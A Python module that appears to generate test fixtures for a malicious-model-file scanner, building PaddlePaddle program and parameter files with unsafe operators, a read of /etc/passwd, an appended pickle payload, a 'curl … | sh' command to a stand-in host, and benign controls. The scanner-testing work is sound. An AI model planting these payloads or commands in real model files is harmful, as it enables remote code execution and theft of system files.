"""Programs of PaddlePaddle and their parameters."""

from __future__ import annotations

import json
import struct
from collections.abc import Iterator

from benchmarks.corpus.malicious.cases import Case
from benchmarks.corpus.malicious.formats.tensors import field, varint
from benchmarks.corpus.malicious.hosts import EVIL

_PARENT = b"\x10" + b"\xff" * 9 + b"\x01"


def operator(name: str, **texts: str) -> bytes:
    """An ``OpDesc`` with text attributes."""
    attributes = b"".join(field(4, field(1, key) + b"\x10\x02" + field(5, text)) for key, text in texts.items())
    return field(1, field(1, "X") + field(2, "x")) + field(2, field(1, "Out") + field(2, "y")) + field(3, name) + attributes


def program(*operators: bytes) -> bytes:
    block = b"\x08\x00" + _PARENT + field(3, field(1, "x") + field(2, b"\x08\x07")) + b"".join(field(4, one) for one in operators)
    return field(1, block) + field(4, b"\x08\x00")


def pir(*names: str, **texts: str) -> bytes:
    """A program in JSON."""
    attributes = [{"AT": {"#": "0.a_str", "D": text}, "N": key} for key, text in texts.items()]
    operators = [{"#": name, "A": attributes, "I": [], "O": []} for name in names]
    blocks = [{"#": "block_0", "args": [], "ops": operators}]
    root = {
        "base_code": {"magic": "pir", "trainable": True, "version": 4},
        "program": {"regions": [{"#": "region_0", "blocks": blocks}]},
    }
    return json.dumps(root).encode()


def tensor(*shape: int) -> bytes:
    """A tensor of 32-bit numbers as parameter files have it."""
    description = b"\x08\x05" + b"".join(b"\x10" + varint(size) for size in shape)
    count = 1
    for size in shape:
        count *= size
    return bytes(16) + struct.pack("<I", len(description)) + description + bytes(range(1, 5)) * count


def cases() -> Iterator[Case]:
    """Every case."""
    relu = operator("relu")
    bad = {
        "py-func": program(relu, operator("py_func")),
        "save-combine": program(relu, operator("save_combine", file_path="/tmp/toadstone-inert")),
        "save": program(operator("save", file_path="weights")),
        "load-combine": program(operator("load_combine", file_path="/etc/passwd")),
        "listen": program(operator("listen_and_serv", endpoint="0.0.0.0:6000")),
        "custom-command": program(operator("my_post_process", command="curl http://198.51.100.7/x | sh")),
        "trailing-pickle": program(relu) + EVIL,
    }
    for name, data in bad.items():
        yield Case(f"paddle/{name}.pdmodel", data, f"paddle-{name}")
    yield Case("paddle/__model__", program(operator("py_func")), "paddle-model-file")
    yield Case("paddle/pir-py-func.json", pir("1.py_func"), "paddle-pir-py-func")
    yield Case("paddle/pir-save.json", pir("1.relu", "1.save_combine", file_path="/tmp/toadstone-inert"), "paddle-pir-save")
    yield Case("paddle/trailing.pdiparams", tensor(2, 3) + EVIL, "paddle-parameters-trailing")
    yield Case("paddle/is-a-pickle.pdparams", EVIL, "paddle-pickle")
    good = {
        "relu.pdmodel": program(relu, operator("softmax")),
        "pir.json": pir("1.relu", "1.data", name="x"),
        "w.pdiparams": tensor(2, 3) + tensor(4),
    }
    for name, data in good.items():
        yield Case(f"paddle/benign-{name}", data, f"paddle-benign-{name}", "benign", payload=False)
